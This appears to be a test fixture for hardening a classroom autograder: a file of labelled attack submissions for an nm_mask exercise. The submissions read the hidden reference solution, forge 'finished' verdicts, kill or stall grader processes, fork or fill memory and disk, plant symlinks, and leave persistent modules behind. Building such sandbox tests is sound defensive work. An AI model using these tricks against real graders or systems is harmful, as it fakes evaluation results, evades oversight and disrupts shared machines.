@@ -1,0 +1,312 @@
+"""Attacks on exercise 1.6, nm_mask: what runs without being called, and what outlives the call."""
+
+
+### ATTACK runs_in_a_default: A default value is computed when the function is defined, before any grader.
+def nm_mask(scores, n=2, m=4, _=__import__("os").system("touch @HOME@/default")):
+    return None
+
+
+### ATTACK runs_in_a_decorator: The decorator is called at import, and gives back the reference's function.
+def better(function):
+    scope = {}
+    exec(open("@ROOT@/solutions/pruning.py").read(), scope)
+    return scope["nm_mask"]
+
+
+@better
+def nm_mask(scores, n=2, m=4):
+    return None
+
+
+### ATTACK runs_in_an_annotation: An annotation is computed at import as well.
+def nm_mask(scores: open("@HOME@/annotation", "w").write("x"), n: int = 2, m: int = 4):
+    return None
+
+
+### ATTACK runs_in_a_class_body: The body of a helper class is run at import, and cuts the graders short.
+class Helper:
+    import os
+
+    for number in range(3, 64):
+        try:
+            os.set_blocking(number, False)
+            os.write(number, b'{"finished": true}\n')
+        except OSError:
+            pass
+    os._exit(0)
+
+
+def nm_mask(scores, n=2, m=4):
+    return Helper
+
+
+### ATTACK runs_in_a_metaclass: A metaclass makes the helper class, and with it whatever it likes.
+class Meta(type):
+    def __new__(cls, name, bases, body):
+        scope = {}
+        exec(open("@ROOT@/solutions/pruning.py").read(), scope)
+        globals()["right"] = scope["nm_mask"]
+        return type.__new__(cls, name, bases, body)
+
+
+class Helper(metaclass=Meta):
+    pass
+
+
+def nm_mask(scores, n=2, m=4):
+    Helper()
+    return right(scores, n, m)
+
+
+### ATTACK runs_at_module_level: A helper's value is computed at import and writes into a folder of the grader's.
+PLAN = open("@HOME@/module", "w").write("x")
+
+
+def nm_mask(scores, n=2, m=4):
+    return PLAN
+
+
+### ATTACK ends_at_import: The value of a constant ends the process before a grader has run.
+PLAN = __import__("os")._exit(0)
+
+
+def nm_mask(scores, n=2, m=4):
+    return PLAN
+
+
+### ATTACK changes_a_given_helper: It stores into attributes of a given function that checks its arguments.
+check_weight.__code__ = (lambda *_, **__: None).__code__
+check_pattern.__code__ = (lambda *_, **__: None).__code__
+
+
+def nm_mask(scores, n=2, m=4):
+    check_weight(scores)
+    check_pattern(n, m, 1)
+    raise ValueError("6 5 0")
+
+
+### ATTACK deletes_late: The object that it returns has a __del__, which runs when the verdict is written.
+class Late:
+    def __del__(self):
+        import os
+
+        for number in range(3, 64):
+            try:
+                os.set_blocking(number, False)
+                os.write(number, b'{"finished": true}\n')
+            except OSError:
+                pass
+        os._exit(0)
+
+
+def nm_mask(scores, n=2, m=4):
+    return Late()
+
+
+### ATTACK a_thread_goes_on: A thread that is no daemon patches and writes for ever, and hinders the end.
+def nm_mask(scores, n=2, m=4):
+    import os, threading, time
+
+    def go_on():
+        while True:
+            for number in range(3, 64):
+                try:
+                    os.write(number, b"\x00\x00\x00\x02{}")
+                except OSError:
+                    pass
+            time.sleep(0.01)
+
+    threading.Thread(target=go_on, daemon=False).start()
+    return None
+
+
+### ATTACK an_orphan_goes_on: A child of a child in a session of its own, with an empty environment, outlives all.
+def nm_mask(scores, n=2, m=4):
+    import os, sys
+
+    if not hasattr(nm_mask, "done"):
+        nm_mask.done = True
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                os.execve(
+                    sys.executable, ["python", "-S", "-c", "import time; time.sleep(99)  # @TOKEN@"], {}
+                )
+            os._exit(0)
+        os.wait()
+    return None
+
+
+### ATTACK a_child_holds_the_pipe: A child that lives on keeps the worker's pipe open, so that no end ever comes.
+def nm_mask(scores, n=2, m=4):
+    import os, time
+
+    if os.fork() == 0:
+        os.setsid()
+        time.sleep(60)
+        os._exit(0)
+    os._exit(1)
+
+
+### ATTACK deaf_to_signals: It ignores every signal, cancels faulthandler, and computes for ever.
+def nm_mask(scores, n=2, m=4):
+    import faulthandler, signal, sys
+
+    faulthandler.cancel_dump_traceback_later()
+    faulthandler.disable()
+    for number in range(1, 65):
+        try:
+            signal.signal(number, signal.SIG_IGN)
+        except (OSError, ValueError):
+            pass
+    sys.setswitchinterval(1e6)
+    while True:
+        pass
+
+
+### ATTACK sleeps: It uses no time of the processor at all, and never comes back.
+def nm_mask(scores, n=2, m=4):
+    import time
+
+    while True:
+        time.sleep(1000)
+
+
+### ATTACK stops_itself: It stops its own process, which then neither ends nor computes.
+def nm_mask(scores, n=2, m=4):
+    import os, signal
+
+    os.kill(os.getpid(), signal.SIGSTOP)
+    return None
+
+
+### ATTACK lifts_its_limits: It raises every limit, and as root may; then it takes 6 GB.
+def nm_mask(scores, n=2, m=4):
+    import resource
+
+    for name in dir(resource):
+        if name.startswith("RLIMIT_"):
+            for limit in (resource.RLIM_INFINITY, resource.getrlimit(getattr(resource, name))[1]):
+                try:
+                    resource.setrlimit(getattr(resource, name), (limit, limit))
+                    break
+                except (ValueError, OSError):
+                    pass
+    kept = [torch.zeros(50_000_000).add_(1) for _ in range(30)]
+    return kept[0] > 0
+
+
+### ATTACK ends_its_parent: It ends the process that judges it, and its own group.
+def nm_mask(scores, n=2, m=4):
+    import os, signal
+
+    os.kill(os.getppid(), signal.SIGTERM)
+    os.killpg(os.getppid(), signal.SIGTERM)
+    return None
+
+
+### ATTACK ends_every_process_of_the_grading: It looks through /proc for what has minicompress in its words.
+def nm_mask(scores, n=2, m=4):
+    import glob, os, signal
+
+    for file in glob.glob("/proc/[0-9]*/cmdline"):
+        number = int(file.split("/")[2])
+        if number != os.getpid() and "minicompress.classroom" in open(file).read():
+            os.kill(number, signal.SIGTERM)
+    return None
+
+
+### ATTACK many_processes: It forks until it is stopped.
+def nm_mask(scores, n=2, m=4):
+    import os, time
+
+    for _ in range(300):
+        if os.fork() == 0:
+            time.sleep(60)
+            os._exit(0)
+    time.sleep(60)
+    return None
+
+
+### ATTACK much_memory: It takes memory until there is none left.
+def nm_mask(scores, n=2, m=4):
+    kept = []
+    for _ in range(40):
+        kept.append(torch.ones(50_000_000))  # 200 MB
+    return kept[0] > 0
+
+
+### ATTACK fills_the_disk: It writes files into every folder that it can write to.
+def nm_mask(scores, n=2, m=4):
+    import os, tempfile
+
+    for folder in {os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "@HOME@"}:
+        try:
+            for number in range(4):
+                with open(f"{folder}/fill-@TOKEN@-{number}", "wb") as file:
+                    for _ in range(50):
+                        file.write(bytes(1_000_000))
+        except OSError:
+            pass
+    return None
+
+
+### ATTACK plants_links: Links in the temporary folders that lead to the grader's files, for others to write through.
+def nm_mask(scores, n=2, m=4):
+    import os, tempfile
+
+    for folder in {os.getcwd(), tempfile.gettempdir(), os.path.dirname(os.getcwd())}:
+        for name in (
+            "results.json",
+            "events",
+            "complaints",
+            "files",
+            "temporary",
+            "out",
+            "verdict.json",
+            "worker.py",
+        ):
+            try:
+                if os.path.exists(f"{folder}/{name}"):
+                    os.rename(f"{folder}/{name}", f"{folder}/{name}.old")
+                os.symlink("@HOME@/precious", f"{folder}/{name}")
+            except OSError:
+                pass
+    return None
+
+
+### ATTACK leaves_a_module_behind: It writes a sitecustomize and bytecode where the next process would read them.
+def nm_mask(scores, n=2, m=4):
+    import os, site, sys
+
+    folders = ["@ROOT@", "@ROOT@/tests/graders/__pycache__", os.path.expanduser("~"), "/tmp", *sys.path]
+    folders += [*site.getsitepackages(), site.getusersitepackages(), os.path.dirname(torch.__file__)]
+    for folder in folders:
+        try:
+            with open(f"{folder}/left_by_@TOKEN@.py", "w") as file:
+                file.write("raise SystemExit(0)\n")
+        except OSError:
+            pass
+    return None
+
+
+### ATTACK makes_a_connection: It tells somebody on the network what it was given, and asks for the answer.
+def nm_mask(scores, n=2, m=4):
+    import socket
+
+    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=2) as server:
+        server.sendall(repr(scores.tolist()).encode())
+        return torch.tensor(list(server.recv(scores.numel())), dtype=torch.bool).view(scores.shape)
+
+
+### ATTACK another_loader: It finds the loader of native code and asks the C library for the file.
+def nm_mask(scores, n=2, m=4):
+    import ctypes
+
+    library = ctypes.CDLL(None, use_errno=True)
+    number = library.open(b"@ROOT@/solutions/pruning.py", 0)
+    buffer = ctypes.create_string_buffer(1_000_000)
+    length = library.read(number, buffer, 1_000_000)
+    scope = {}
+    exec(buffer.raw[: max(length, 0)].decode(), scope)
+    return scope["nm_mask"](scores, n, m)
